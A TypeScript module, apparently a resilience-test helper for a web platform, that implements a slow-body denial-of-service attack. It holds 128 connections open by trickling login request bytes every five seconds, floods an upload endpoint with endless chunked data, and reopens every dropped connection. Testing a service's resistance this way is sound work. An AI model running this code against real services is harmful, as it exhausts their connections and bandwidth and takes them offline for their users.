import { setMaxListeners } from 'node:events';
import { connect, type Socket } from 'node:net';
import { setTimeout as pause } from 'node:timers/promises';

/** As many as a gateway has connections to an instance of an owner. */
const SLOW_LOG_INS = 128;
const ENDLESS_UPLOADS = 4;
const BYTE_EVERY_MS = 5_000;
const UPLOAD_BYTES = Buffer.alloc(64 * 1024, 1);
const AGAIN_AFTER_MS = 100;

const LOG_IN = ['POST /api/v1/auth/login HTTP/1.1', 'content-type: application/json'];
const UPLOAD = ['PATCH /api/v1/user/update HTTP/1.1', 'content-type: multipart/form-data; boundary=x'];
const PART = '--x\r\ncontent-disposition: form-data; name="file"; filename="a.png"\r\ncontent-type: image/png\r\n\r\n';

export interface Attack {
  start(): void;
  /** Resolves when all its connections have ended. */
  stop(): Promise<void>;
}

/**
 * Log-ins in chunks, a byte each five seconds, and uploads without an end, which are refused as nobody is signed in but
 * go on sending. Each connection that ends is opened again, for as long as the attack lasts.
 * @param address of the platform, such as http://localhost:8080
 */
export function slowBodies(address: string): Attack {
  const { hostname, port, host } = new URL(address);
  const stopping = new AbortController();
  setMaxListeners(SLOW_LOG_INS + ENDLESS_UPLOADS, stopping.signal);
  const attackers: Promise<void>[] = [];

  const attack = async (head: readonly string[], send: (socket: Socket) => void): Promise<void> => {
    while (!stopping.signal.aborted) {
      const socket = connect(Number(port || 80), hostname);
      const end = () => void socket.destroy();
      stopping.signal.addEventListener('abort', end);
      // A refused or reset connection is what the platform may do; it ends, and is opened again.
      socket.on('error', () => undefined).resume();
      const closed = new Promise<void>((resolve) => socket.once('close', () => resolve()));
      socket.once('connect', () => {
        socket.write([...head, `host: ${host}`, 'transfer-encoding: chunked', '', ''].join('\r\n'));
        send(socket);
      });
      await closed;
      stopping.signal.removeEventListener('abort', end);
      await pause(AGAIN_AFTER_MS);
    }
  };

  return {
    start() {
      for (let count = 0; count < SLOW_LOG_INS; count += 1) attackers.push(attack(LOG_IN, trickle));
      for (let count = 0; count < ENDLESS_UPLOADS; count += 1) attackers.push(attack(UPLOAD, flood));
    },
    async stop() {
      stopping.abort();
      await Promise.all(attackers);
    },
  };
}

function trickle(socket: Socket): void {
  const timer = setInterval(() => socket.write('1\r\n \r\n'), BYTE_EVERY_MS);
  socket.write('1\r\n{\r\n');
  socket.once('close', () => clearInterval(timer));
}

function flood(socket: Socket): void {
  const chunk = (bytes: string | Buffer) => {
    socket.write(`${Buffer.byteLength(bytes).toString(16)}\r\n`);
    socket.write(bytes);
    return socket.write('\r\n');
  };
  const goOn = () => {
    while (!socket.destroyed && chunk(UPLOAD_BYTES));
  };
  chunk(PART);
  socket.on('drain', goOn);
  goOn();
}
